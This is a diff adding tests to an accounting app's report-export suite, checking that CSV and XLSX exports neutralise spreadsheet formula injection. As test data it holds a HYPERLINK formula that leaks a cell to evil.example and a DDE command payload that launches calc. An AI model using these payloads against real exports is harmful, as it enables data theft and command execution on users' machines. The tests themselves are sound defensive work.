@@ -204,3 +204,74 @@ describe('report export', () => {
     }
   });
 });
+
+describe('CSV cells never start a formula', () => {
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B5,"x")';
+  const COMMAND = "+cmd|' /C calc'!A0";
+
+  it('neutralises a customer name in the AR aging and a description in the general ledger, indented or not', async () => {
+    const post = (url: string, payload: object) =>
+      t.app.inject({
+        method: 'POST',
+        url,
+        headers: { ...t.orgHeaders, 'idempotency-key': `csv-${url}-${JSON.stringify(payload).length}` },
+        payload,
+      });
+    const customer = (await post('/api/v1/contacts', { kind: 'customer', name: HYPERLINK })).json().data.id;
+    const invoice = await post('/api/v1/invoices', {
+      contactId: customer,
+      date: '2026-05-01',
+      dueDate: '2026-05-31',
+      lines: [{ accountId: t.account('4000'), quantity: 1, unitPriceCents: 12_345 }],
+    });
+    expect(invoice.statusCode, invoice.body).toBe(201);
+    const purchase = await post(`/api/v1/companies/${t.orgId}/purchases`, {
+      date: '2026-05-02',
+      sourceAccountId: t.account('1000'),
+      amountCents: 999,
+      categoryAccountId: t.account('6300'),
+      description: COMMAND,
+    });
+    expect(purchase.statusCode, purchase.body).toBe(201);
+
+    const cells = async (query: string) => {
+      const res = await exported(query);
+      expect(res.statusCode, res.body).toBe(200);
+      return csvRows(res.body).flat();
+    };
+    // A negative amount is a number, not a formula.
+    const dangerous = (cell: string) => /^[ \u00a0]*[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell);
+    for (const query of ['report=ar-aging&format=csv&asOf=2026-06-30', `report=general-ledger&format=csv&${Q}`]) {
+      const all = await cells(query);
+      expect(
+        all.filter(dangerous).map((c) => JSON.stringify(c)),
+        query,
+      ).toEqual([]);
+    }
+    const aging = await cells('report=ar-aging&format=csv&asOf=2026-06-30');
+    expect(
+      aging.some((c) => c.trimStart() === `'${HYPERLINK}` || c === `'  ${HYPERLINK}` || c.endsWith(HYPERLINK)),
+    ).toBe(true);
+    const ledger = await cells(`report=general-ledger&format=csv&${Q}`);
+    expect(ledger.some((c) => c.includes(COMMAND) && c.startsWith("'"))).toBe(true);
+  });
+
+  it('keeps names and descriptions as text cells in XLSX, never formulas', async () => {
+    const res = await exported('report=ar-aging&format=xlsx&asOf=2026-06-30');
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
+    const found: ExcelJS.Cell[] = [];
+    book.eachSheet((sheet) =>
+      sheet.eachRow((row) =>
+        row.eachCell((cell) => {
+          if (String(cell.value).includes('HYPERLINK')) found.push(cell);
+        }),
+      ),
+    );
+    expect(found.length).toBeGreaterThan(0);
+    for (const cell of found) {
+      expect(cell.type).toBe(ExcelJS.ValueType.String);
+      expect(cell.formula).toBeUndefined();
+    }
+  });
+});
